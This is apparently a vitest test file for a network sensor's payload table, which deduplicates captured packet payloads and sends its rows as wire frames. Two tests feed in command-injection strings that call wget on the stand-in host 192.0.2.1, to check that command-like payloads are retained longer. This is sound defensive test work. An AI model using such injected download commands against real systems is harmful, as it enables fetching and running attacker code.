import { expect, test } from 'vitest';
import { Decoder } from '../../../sensor/decode/decoder.ts';
import { sha256Begin as digest } from '../../../sensor/output/digest.ts';
import { COMMAND_FACTOR, PayloadTable } from '../../../sensor/payload/payload-table.ts';
import { createPacketBatch, createRecordBatch } from '../../../shared/packet-batch.ts';
import { decodeFrame, encodeFrame, type Frame } from '../../../shared/wire/frame.ts';
import { countSources, frameToPayloads, payloadsToFrame, SOURCE_REGISTERS } from '../../../shared/wire/payloads.ts';
import { randomNumbers } from '../../support/random-flows.ts';

const RAW_IP = 101;
const decoder = new Decoder({ checksums: false });

const bytesOf = (text: string) => Buffer.from(text, 'latin1');

interface Made {
  protocol?: 6 | 17;
  source?: number;
  port?: number;
  payload: Uint8Array;
  /** Bytes of the TCP header. */
  headerBytes?: number;
  /** Bytes of the packet that were captured; all by default. */
  captured?: number;
  fragment?: number;
  family?: 4 | 6;
}

function packet({ protocol = 17, source = 1, port = 53, payload, headerBytes = 20, fragment = 0, family = 4 }: Made) {
  const transport = Buffer.alloc(protocol === 17 ? 8 : headerBytes);
  transport.writeUInt16BE(40_000, 0);
  transport.writeUInt16BE(port, 2);
  if (protocol === 17) transport.writeUInt16BE(8 + payload.length, 4);
  else transport.writeUInt16BE(((headerBytes / 4) << 12) | 0x18, 12);
  const ip = Buffer.alloc(family === 4 ? 20 : 40);
  if (family === 4) {
    ip.writeUInt16BE(0x4500, 0);
    ip.writeUInt16BE(20 + transport.length + payload.length, 2);
    ip.writeUInt16BE(fragment, 6);
    ip.writeUInt16BE(64 * 256 + protocol, 8);
    ip.writeUInt32BE(0x0a000000 + source, 12);
    ip.writeUInt32BE(0xc6336407, 16);
  } else {
    ip.writeUInt32BE(0x60000000, 0);
    ip.writeUInt16BE(transport.length + payload.length, 4);
    ip.writeUInt16BE(protocol * 256 + 64, 6);
    ip.writeUInt32BE(source, 20);
  }
  return Buffer.concat([ip, transport, payload]);
}

function addTo(table: PayloadTable, packets: readonly Made[]): void {
  const records = createRecordBatch(packets.length);
  const made = packets.map(packet);
  records.bytes = Uint8Array.from(Buffer.concat(made));
  records.view = new DataView(records.bytes.buffer);
  let at = 0;
  made.forEach((bytes, row) => {
    records.offset[row] = at;
    records.capturedLength[row] = packets[row]!.captured ?? bytes.length;
    records.wireLength[row] = bytes.length;
    records.seconds[row] = 1_700_000_000 + row;
    records.linkType[row] = RAW_IP;
    at += bytes.length;
  });
  records.length = made.length;
  const [ipv4, ipv6] = [createPacketBatch(4, packets.length), createPacketBatch(6, packets.length)];
  decoder.decode(records, ipv4, ipv6);
  table.add(records, ipv4);
  table.add(records, ipv6);
}

const tableOf = (options: { keepBytes?: number; capacity?: number } = {}) =>
  new PayloadTable({ keepBytes: 128, capacity: 64, seed: [1, 2], digest, ...options });
const keptOf = (table: PayloadTable, row: number) =>
  Buffer.from(table.bytes.subarray(row * table.strideBytes, row * table.strideBytes + table.keptBytes[row]!)).toString(
    'latin1',
  );

test('each distinct payload once: how often, when, to which ports, from how many sources', () => {
  const table = tableOf();
  const [a, b] = [bytesOf('first payload'), bytesOf('second')];
  addTo(table, [
    { payload: a, source: 1, port: 53 },
    { payload: b, source: 2, port: 53 },
    { payload: a, source: 3, port: 123 },
    { payload: a, source: 1, port: 53 },
    { payload: a, protocol: 6, headerBytes: 32, port: 80 },
    { payload: a, family: 6, port: 53 },
    { payload: bytesOf('') },
    { payload: bytesOf(''), protocol: 6 },
  ]);
  expect(table.length).toBe(3);
  expect(table.packetsSeen).toBe(6);
  expect([...table.packets.subarray(0, 3)]).toEqual([4, 1, 1]);
  expect([0, 1, 2].map((row) => keptOf(table, row))).toEqual(['first payload', 'second', 'first payload']);
  expect([...table.protocol.subarray(0, 3)]).toEqual([17, 17, 6]);
  expect([table.firstSeconds[0], table.lastSeconds[0]]).toEqual([1_700_000_000, 1_700_000_005]);
  expect([...table.ports.subarray(0, table.portCount[0])]).toEqual([53, 123]);
  expect({ high: table.digestHigh[0], low: table.digestLow[0] }).toEqual(digest(a));
  const registers = table.sketches.subarray(0, SOURCE_REGISTERS).filter((rank) => rank > 0);
  expect(registers.length).toBe(3);
});

test('what was cut off is told, and a longer payload with the same begin is another', () => {
  const table = tableOf({ keepBytes: 16 });
  const long = bytesOf('x'.repeat(300));
  addTo(table, [{ payload: long }, { payload: long, captured: 28 + 100 }, { payload: bytesOf('x'.repeat(100)) }]);
  expect(table.length).toBe(3);
  expect([...table.wireBytes.subarray(0, 3)]).toEqual([300, 300, 100]);
  expect([...table.capturedBytes.subarray(0, 3)]).toEqual([300, 100, 100]);
  expect([...table.keptBytes.subarray(0, 3)]).toEqual([16, 16, 16]);
});

test('what looks like a command is kept for longer', () => {
  const table = tableOf({ keepBytes: 16 });
  const command = `${'a'.repeat(60)}; WGET http://192.0.2.1/${'b'.repeat(200)}`;
  addTo(table, [{ payload: bytesOf(command) }, { payload: bytesOf('a'.repeat(200)) }]);
  expect([...table.keptBytes.subarray(0, 2)]).toEqual([16 * COMMAND_FACTOR, 16]);
  expect(keptOf(table, 0)).toContain('WGET http://192.0.2.1/');
});

test('no payload is looked for in later fragments, short headers and what was not captured', () => {
  const table = tableOf();
  addTo(table, [
    { payload: bytesOf('abcd'), fragment: 5 },
    { payload: bytesOf('abcd'), protocol: 6, headerBytes: 16 },
    { payload: bytesOf('abcd'), captured: 28 },
    { payload: bytesOf('abcd'), captured: 22 },
    { payload: bytesOf('abcd'), captured: 30 },
  ]);
  expect(table.packetsSeen).toBe(1);
  expect(keptOf(table, 0)).toBe('ab');
  expect(table.wireBytes[0]).toBe(4);
});

test('a flood of random payloads fills the table and no more, and every packet is counted', () => {
  const table = tableOf({ capacity: 32 });
  const random = randomNumbers();
  for (let round = 0; round < 20; round++) {
    const packets = Array.from({ length: 50 }, () => ({
      payload: Uint8Array.from({ length: 40 }, () => 128 + Math.floor(random() * 128)),
    }));
    addTo(table, packets);
  }
  // A quarter stays free for what looks like a command.
  expect(table.length).toBe(24);
  expect(table.packetsSeen).toBe(1_000);
  expect(table.packetsHeld).toBe(24);
  const kept = table.packets.subarray(0, table.length).reduce((sum, packets) => sum + packets, 0);
  expect(kept + table.packetsNotKept).toBe(1_000);
  addTo(
    table,
    Array.from({ length: 20 }, (_, at) => ({ payload: bytesOf(`;wget http://192.0.2.1/${at}`) })),
  );
  expect(table.length).toBe(32);
  expect(table.packetsSeen).toBe(table.packetsHeld + table.packetsNotKept);
  table.clear();
  addTo(table, [{ payload: bytesOf('again'), port: 7 }]);
  expect([table.length, table.packets[0], table.portCount[0], table.ports[0]]).toEqual([1, 1, 1, 7]);
  expect(table.sketches.subarray(0, SOURCE_REGISTERS).filter((rank) => rank > 0).length).toBe(1);
});

test('0 bytes switch it off', () => {
  const table = tableOf({ keepBytes: 0 });
  addTo(table, [{ payload: bytesOf('abcd') }]);
  expect([table.length, table.packetsSeen, table.bytes.length]).toEqual([0, 0, 0]);
});

test('random bytes are read within their records', () => {
  const table = tableOf();
  const random = randomNumbers();
  for (let round = 0; round < 300; round++) {
    const records = createRecordBatch(16);
    records.bytes = Uint8Array.from({ length: 800 }, () => Math.floor(random() * 256));
    records.view = new DataView(records.bytes.buffer);
    for (let row = 0; row < 16; row++) {
      records.offset[row] = row * 50;
      records.capturedLength[row] = 50;
      records.wireLength[row] = 50;
      records.bytes[row * 50] = row % 2 ? 0x45 : 0x60;
      if (row % 2) records.bytes[row * 50 + 9] = row % 4 === 1 ? 6 : 17;
      else records.bytes[row * 50 + 6] = row % 4 === 0 ? 6 : 17;
      records.linkType[row] = RAW_IP;
    }
    records.length = 16;
    const [ipv4, ipv6] = [createPacketBatch(4, 16), createPacketBatch(6, 16)];
    decoder.decode(records, ipv4, ipv6);
    table.add(records, ipv4);
    table.add(records, ipv6);
  }
  expect(table.packetsSeen).toBeGreaterThan(0);
  for (let row = 0; row < table.length; row++) expect(table.capturedBytes[row]).toBeLessThanOrEqual(50);
});

test('rows travel as a frame, and what no sensor sends is refused', () => {
  const table = tableOf({ keepBytes: 8 });
  addTo(table, [
    { payload: bytesOf('not this one') },
    { payload: bytesOf('a payload'), source: 1 },
    { payload: bytesOf('another'), port: 7 },
    { payload: bytesOf('a payload'), source: 2 },
  ]);
  const sent = payloadsToFrame(table.rows(1, 3), 5, 6);
  const through = (frame: Frame) => frameToPayloads(decodeFrame(encodeFrame(frame)));
  const read = through(sent);
  expect([...read.packets]).toEqual([2, 1]);
  expect([...read.keptBytes]).toEqual([8, 7]);
  expect(Buffer.from(read.bytes).toString()).toBe('a payloaanother');
  expect([...read.ports]).toEqual([53, 0, 0, 0, 7, 0, 0, 0]);
  expect(countSources(read.sketches.subarray(0, SOURCE_REGISTERS))).toBe(2);
  expect({ high: read.digestHigh[0], low: read.digestLow[0] }).toEqual(digest(bytesOf('a payload')));

  const wrong = (id: number, change: (data: never) => unknown) =>
    through({
      ...sent,
      columns: sent.columns.map((column) =>
        column.field === id ? { ...column, data: change(column.data as never) as never } : column,
      ),
    });
  expect(() => wrong(13, (bytes: Uint8Array) => bytes.subarray(1))).toThrow('are not 15 bytes');
  expect(() => wrong(12, () => new Uint8Array(2 * SOURCE_REGISTERS).fill(99))).toThrow('impossible rank');
  expect(() => wrong(2, () => Float64Array.of(5, Number.NaN))).toThrow('from second');
  expect(() => wrong(6, () => Uint16Array.of(3, 3))).toThrow('of a payload of 3');
  expect(() => wrong(5, () => Uint32Array.of(0, 1))).toThrow('of 0 packets');
  expect(() => through({ ...sent, columns: sent.columns.slice(1) })).toThrow('without firstSeconds');
  expect(() => frameToPayloads({ ...sent, kind: 2 })).toThrow('carries no payloads');
});
